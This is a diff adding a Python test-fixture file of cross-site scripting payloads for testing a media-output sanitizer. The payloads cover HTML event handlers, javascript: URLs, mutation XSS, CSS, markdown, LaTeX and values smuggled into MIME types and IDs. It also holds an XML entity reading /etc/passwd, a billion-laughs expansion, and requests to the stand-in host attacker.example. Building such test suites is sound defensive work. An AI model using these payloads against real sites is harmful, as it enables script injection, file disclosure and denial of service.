@@ -1,0 +1,130 @@
+"""Attack payloads, written for this project from the classes in security.md.
+
+Every payload that executes calls ``__pwned(n)`` or ``alert(n)``, or loads a URL on
+``attacker.example`` (the browser tests intercept and record such requests).
+"""
+
+from __future__ import annotations
+
+import base64
+
+HTML_ATTACKS: list[str] = [
+    # script and event handlers
+    "<script>__pwned(1)</script>",
+    "<SCRIPT SRC=http://attacker.example/x.js></SCRIPT>",
+    "<img src=x onerror=__pwned(2)>",
+    "<img src=x OnErRoR=__pwned(3)>",
+    "<body onload=__pwned(4)>",
+    "<div onmouseover=__pwned(5) style='width:100%;height:100px'>hover</div>",
+    "<details open ontoggle=__pwned(6)>x</details>",
+    "<video><source onerror=__pwned(7)></video>",
+    "<audio src=x onerror=__pwned(8)></audio>",
+    "<input autofocus onfocus=__pwned(9)>",
+    "<marquee onstart=__pwned(10)>x</marquee>",
+    "<svg onload=__pwned(11)>",
+    "<svg><script>__pwned(12)</script></svg>",
+    "<svg><animate onbegin=__pwned(13) attributeName=x dur=1s>",
+    "<svg><set attributeName=onmouseover to=__pwned(14)>",
+    "<svg><a xlink:href='javascript:__pwned(15)'><text x=20 y=20>click</text></a></svg>",
+    "<svg><foreignObject><img src=x onerror=__pwned(16)></foreignObject></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__pwned(17) /></svg>#x'/></svg>",
+    # URL schemes in every URL attribute, with case, entity, whitespace and invisible variants
+    "<a href='javascript:__pwned(18)'>a</a>",
+    "<a href='JaVaScRiPt:__pwned(19)'>a</a>",
+    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__pwned(20)'>a</a>",
+    "<a href='java&#x09;script:__pwned(21)'>a</a>",
+    "<a href='java&#x0A;script:__pwned(22)'>a</a>",
+    "<a href=' \x01javascript:__pwned(23)'>a</a>",
+    "<a href='java\u200bscript:__pwned(24)'>a</a>",
+    "<a href='javascript\u00ad:__pwned(25)'>a</a>",
+    "<a href='vbscript:msgbox(26)'>a</a>",
+    "<a href='data:text/html,<script>__pwned(27)</script>'>a</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDI4KTwvc2NyaXB0Pg=='>a</a>",
+    "<iframe src='javascript:__pwned(29)'></iframe>",
+    "<iframe srcdoc='<script>parent.__pwned(30)</script>'></iframe>",
+    "<form action='javascript:__pwned(31)'><button>go</button></form>",
+    "<form><button formaction='javascript:__pwned(32)'>go</button></form>",
+    "<img srcset='javascript:__pwned(33) 1x'>",
+    "<object data='javascript:__pwned(34)'></object>",
+    "<embed src='javascript:__pwned(35)'>",
+    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd25lZCgzNik+'>",
+    "<a href='&#x6A;avascript&colon;__pwned(37)'>a</a>",
+    # mutation XSS and parser differentials
+    "<noscript><p title=\"</noscript><img src=x onerror=__pwned(38)>\">",
+    "<svg><style><img src=x onerror=__pwned(39)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned(40)></style></mglyph></table></mtext></math>",
+    "<!--<img src=x onerror=__pwned(41)>-->",
+    "<![CDATA[<img src=x onerror=__pwned(42)>]]>",
+    "<select><iframe></select><img src=x: onerror=__pwned(43)>",
+    "<template><img src=x onerror=__pwned(44)></template>",
+    "<textarea></textarea><img src=x onerror=__pwned(45)></textarea>",
+    "<title><img src=x onerror=__pwned(46)></title>",
+    "<xmp><img src=x onerror=__pwned(47)></xmp>",
+    "<math><maction actiontype=statusline xlink:href='javascript:__pwned(48)'>x</maction></math>",
+    "<a href=\"javascript&#00058;__pwned(49)\">a</a>",
+    # CSS
+    "<div style=\"background-image: url(javascript:__pwned(50))\">x</div>",
+    "<div style=\"width: expression(__pwned(51))\">x</div>",
+    "<div style=\"background: url('http://attacker.example/css')\">x</div>",
+    "<style>@import 'http://attacker.example/import.css';</style>",
+    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">overlay</div>",
+    "<p style=\"color: red; behavior: url(http://attacker.example/x.htc)\">x</p>",
+    "<p style=\"color: r\\65 d; background: u\\72 l(http://attacker.example/esc)\">x</p>",
+    # meta, base, link
+    "<meta http-equiv=refresh content='0;url=javascript:__pwned(52)'>",
+    "<base href='javascript:__pwned(53)//'><a href='/x'>rel</a>",
+    "<link rel=stylesheet href='http://attacker.example/link.css'>",
+    "<link rel=import href='data:text/html,<script>__pwned(54)</script>'>",
+    # DOM clobbering and app-behaviour attributes
+    "<img name=__pwned src=x><form id=BackendAI><input name=Media></form>",
+    "<a id=__hits href='https://attacker.example/'>clobber</a>",
+    "<div data-bai-action=run data-src='javascript:__pwned(55)'>x</div>",
+    "<div class='bai-media-copy bai-media-item'>claims our classes</div>",
+    # images whose data breaks out of attributes
+    "<img src='data:image/png;base64,\" onerror=__pwned(56) x=\"'>",
+    "<img src=\"x\" alt='\" onerror=__pwned(57) \"'>",
+]
+
+_SVG_ATTACKS = [
+    "<svg xmlns='http://www.w3.org/2000/svg' onload='__pwned(100)'><circle r='5'/></svg>",
+    "<svg xmlns='http://www.w3.org/2000/svg'><script>__pwned(101)</script></svg>",
+    "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>",
+    "<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'><!ENTITY lol3 '&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&lol3;</text></svg>",
+    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='__pwned(102)'/></body></foreignObject></svg>",
+    "</svg><img src=x onerror=__pwned(103)>",
+]
+
+
+def _b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def attack_items() -> list[tuple[str, object]]:
+    """Media items carrying attacks through every handler, hostile types and metadata included."""
+    items: list[tuple[str, object]] = [("text/html", payload) for payload in HTML_ATTACKS]
+    items += [("image/svg+xml", payload) for payload in _SVG_ATTACKS]
+    items += [
+        ("text/plain", "<script>__pwned(200)</script>"),
+        ("stdout", "\x1b]8;;javascript:__pwned(201)\x1b\\click\x1b]8;;\x1b\\ <img src=x onerror=__pwned(202)>\n"),
+        ("stderr", "\x1b[31m</pre><script>__pwned(203)</script>\x1b[0m\n"),
+        ("text/markdown", "[x](javascript:__pwned(204)) ![y](javascript:__pwned(205)) <script>__pwned(206)</script>\n\n[r]: javascript:__pwned(207)\n\n[ref][r]"),
+        ("text/markdown", "```html\n<script>__pwned(208)</script>\n```\n<img src=x onerror=__pwned(209)>"),
+        ("text/latex", r"$\href{javascript:__pwned(210)}{x}$ $\url{javascript:__pwned(211)}$"),
+        ("text/latex", r"$x<img src=x onerror=__pwned(212)>$ $\unicode{60}script\unicode{62}__pwned(213)$"),
+        ("application/json", {"</script><script>__pwned(214)</script>": "<img src=x onerror=__pwned(215)>"}),
+        ("application/json", '{"a": "</script><script>__pwned(216)</script>"}'),
+        ("image/png", "data:image/png;base64,\" onerror=\"__pwned(217)"),
+        ("image/png", _b64("<script>__pwned(218)</script>")),
+        ("image/jpeg", "data:text/html;base64," + _b64("<script>__pwned(219)</script>")),
+        ("audio/ogg", "data:text/html;base64," + _b64("<script>__pwned(220)</script>")),
+        ("audio/ogg\" onerror=\"__pwned(221)", "data:audio/ogg;base64,AAAA"),
+        ("text/html\"><script>__pwned(222)</script>", "x"),
+        ("<img src=x onerror=__pwned(223)>", "unknown"),
+        ("application/javascript", "__pwned(224)"),
+        ("application/vnd.jupyter.error", {"ename": "<script>__pwned(225)</script>", "evalue": "<img src=x onerror=__pwned(226)>", "traceback": ["\x1b[31m<svg onload=__pwned(227)>"]}),
+        ("application/vnd.sorna.gitgraph", [{"oid": "<script>", "parent_ids": [], "author": "a", "message": "<img src=x onerror=__pwned(228)>", "branch": "main", "parent_branches": []}]),
+    ]
+    return items
+
+
+HOSTILE_RESULT_IDS = ["\"><script>__pwned(300)</script>", "x' onmouseover='__pwned(301)", "BackendAI", "__hits"]
